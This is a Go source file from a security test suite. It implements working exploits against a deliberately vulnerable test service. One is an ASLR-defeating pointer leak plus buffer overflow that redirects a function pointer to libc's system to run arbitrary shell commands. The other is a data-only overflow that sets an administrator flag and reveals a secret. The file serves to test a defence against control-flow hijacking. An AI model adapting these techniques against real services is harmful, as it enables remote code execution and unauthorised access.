// Package attack holds working exploits against testdata/vulnsvc, a
// deliberately vulnerable service: the security tests run them natively,
// where they succeed, and under dmvx, where the control-flow hijack must
// be stopped (docs/security.md). `make demo-attack` runs them for a person
// to watch (test/attack/exploit).
//
// The hijack is the classic two-step: an information leak defeats ASLR
// (the session's function pointer, which points into libc), then an
// overflow replaces that pointer with libc's system, whose argument is a
// note the attacker wrote: the service runs `sh -c NOTE`. The escalation
// is a data-only attack: an overflow of a user name sets the
// administrator flag next to it, and no address is involved.
package attack

import (
	"bufio"
	"bytes"
	"debug/elf"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"strconv"
	"strings"
	"time"
)

// stepTimeout bounds each exchange with the service: under dmvx a stopped
// service closes the connection, and nothing here waits longer than this
// for an answer that will not come.
const stepTimeout = 10 * time.Second

// Target is a running vulnsvc.
type Target struct {
	// Addr is its host:port.
	Addr string
	// Libc is the libc file it runs with, read for the offsets of puts
	// and system (the attacker has the same distribution's libc).
	Libc string
	// LibcBase, when not zero, is where that libc is mapped in the
	// process attacked, learnt out of band (an attacker who read one
	// variant's /proc/PID/maps, say): the hijack then skips the leak.
	LibcBase uint64
	// Log, when set, is told each step.
	Log func(format string, args ...any)
}

func (t *Target) logf(format string, args ...any) {
	if t.Log != nil {
		t.Log(format, args...)
	}
}

// conn is one session with the service.
type conn struct {
	c net.Conn
	r *bufio.Reader
}

func dial(addr string) (*conn, error) {
	c, err := net.DialTimeout("tcp", addr, stepTimeout)
	if err != nil {
		return nil, err
	}
	s := &conn{c: c, r: bufio.NewReader(c)}
	if _, err := s.expect("vulnsvc ready"); err != nil {
		c.Close()
		return nil, err
	}
	return s, nil
}

// send writes b and reads the one-line answer, which must start with
// want.
func (s *conn) send(b []byte, want string) (string, error) {
	if err := s.c.SetDeadline(time.Now().Add(stepTimeout)); err != nil {
		return "", err
	}
	if _, err := s.c.Write(b); err != nil {
		return "", fmt.Errorf("sending %q: %w", firstLine(b), err)
	}
	line, err := s.expect(want)
	if err != nil {
		return "", fmt.Errorf("after %q: %w", firstLine(b), err)
	}
	return line, nil
}

func (s *conn) expect(want string) (string, error) {
	if err := s.c.SetReadDeadline(time.Now().Add(stepTimeout)); err != nil {
		return "", err
	}
	line, err := s.r.ReadString('\n')
	if err != nil {
		return "", fmt.Errorf("the service closed the connection or did not answer: %w", err)
	}
	line = strings.TrimSuffix(line, "\n")
	if !strings.HasPrefix(line, want) {
		return "", fmt.Errorf("answer %q, want %q", line, want)
	}
	return line, nil
}

func firstLine(b []byte) string {
	if i := bytes.IndexByte(b, '\n'); i >= 0 {
		return string(b[:i])
	}
	return string(b)
}

// ErrNoMatch: the leaked pointer is not libc's puts where the attacker's
// libc has it (another libc, or not a pointer at all).
var ErrNoMatch = errors.New("the leaked pointer does not match the libc given")

// Hijack makes the service run `sh -c cmd`. It returns the leaked
// pointer (0 when LibcBase was given) and the first error: a service that
// dmvx stopped ends the connection at the leak's answer or at the hijack.
func (t *Target) Hijack(cmd string) (leak uint64, err error) {
	puts, system, err := libcOffsets(t.Libc)
	if err != nil {
		return 0, err
	}
	if strings.ContainsAny(cmd, "\n") || len(cmd) > 255 {
		return 0, fmt.Errorf("command %q: one line of at most 255 bytes", cmd)
	}
	s, err := dial(t.Addr)
	if err != nil {
		return 0, err
	}
	defer s.c.Close()
	t.logf("connected to %s", t.Addr)

	base := t.LibcBase
	if base == 0 {
		// Step 1, the leak: the word after the 64-byte buffer is the
		// session's function pointer, puts in libc.
		line, err := s.send([]byte("PEEK 8\n"), "VAL ")
		if err != nil {
			return 0, fmt.Errorf("leak: %w", err)
		}
		if leak, err = strconv.ParseUint(strings.TrimPrefix(line, "VAL "), 16, 64); err != nil {
			return 0, fmt.Errorf("leak: answer %q: %w", line, err)
		}
		base = leak - puts
		if base&0xfff != 0 {
			return leak, fmt.Errorf("%w: %#x - %#x is not page aligned", ErrNoMatch, leak, puts)
		}
		t.logf("leaked puts at %#x: libc at %#x, system at %#x", leak, base, base+system)
	} else {
		t.logf("libc at %#x (learnt out of band), system at %#x", base, base+system)
	}

	// Step 2: the session's note, the function's argument, is the
	// command.
	if _, err := s.send([]byte("NOTE "+cmd+"\n"), "OK"); err != nil {
		return leak, fmt.Errorf("note: %w", err)
	}
	// Step 3, the overflow: 64 bytes of buffer, then system in place of
	// puts. The argument after it, a pointer to the note, stays.
	payload := make([]byte, 72)
	for i := range 64 {
		payload[i] = 'A'
	}
	binary.LittleEndian.PutUint64(payload[64:], base+system)
	if _, err := s.send(append([]byte("DATA 72\n"), payload...), "GOT 72"); err != nil {
		return leak, fmt.Errorf("overflow: %w", err)
	}
	t.logf("overwrote the session's function pointer with system")
	// Step 4: QUIT calls the pointer with the note: system(cmd).
	if _, err := s.send([]byte("QUIT\n"), "BYE"); err != nil {
		return leak, fmt.Errorf("hijack: %w", err)
	}
	t.logf("QUIT answered: the service ran %q", cmd)
	return leak, nil
}

// Escalate is the data-only attack: a user name of 20 bytes runs over
// the 16-byte field into the administrator flag, and the service then
// tells the secret. It returns the secret.
func Escalate(addr string) (string, error) {
	s, err := dial(addr)
	if err != nil {
		return "", err
	}
	defer s.c.Close()
	name := append(bytes.Repeat([]byte("u"), 16), 1, 0, 0, 0)
	if _, err := s.send(append([]byte("LOGIN 20\n"), name...), "HELLO"); err != nil {
		return "", fmt.Errorf("login: %w", err)
	}
	line, err := s.send([]byte("SECRET\n"), "")
	if err != nil {
		return "", err
	}
	secret, ok := strings.CutPrefix(line, "SECRET ")
	if !ok {
		return "", fmt.Errorf("no secret: %q", line)
	}
	if _, err := s.send([]byte("QUIT\n"), "BYE"); err != nil {
		return "", err
	}
	return secret, nil
}

// Secret asks for the secret without attacking: the answer is DENIED.
func Secret(addr string) (string, error) {
	s, err := dial(addr)
	if err != nil {
		return "", err
	}
	defer s.c.Close()
	line, err := s.send([]byte("SECRET\n"), "")
	if err != nil {
		return "", err
	}
	_, err = s.send([]byte("QUIT\n"), "BYE")
	return line, err
}

// Shutdown ends the service.
func Shutdown(addr string) error {
	s, err := dial(addr)
	if err != nil {
		return err
	}
	defer s.c.Close()
	_, err = s.send([]byte("SHUTDOWN\n"), "BYE")
	return err
}

// libcOffsets reads the offsets of puts and system from a libc's dynamic
// symbols.
func libcOffsets(path string) (puts, system uint64, err error) {
	f, err := elf.Open(path)
	if err != nil {
		return 0, 0, err
	}
	defer f.Close()
	syms, err := f.DynamicSymbols()
	if err != nil {
		return 0, 0, fmt.Errorf("%s: %w", path, err)
	}
	for _, s := range syms {
		if elf.ST_TYPE(s.Info) != elf.STT_FUNC {
			continue
		}
		switch s.Name {
		case "puts":
			puts = s.Value
		case "system":
			system = s.Value
		}
	}
	if puts == 0 || system == 0 {
		return 0, 0, fmt.Errorf("%s: no puts or system among its dynamic symbols", path)
	}
	return puts, system, nil
}
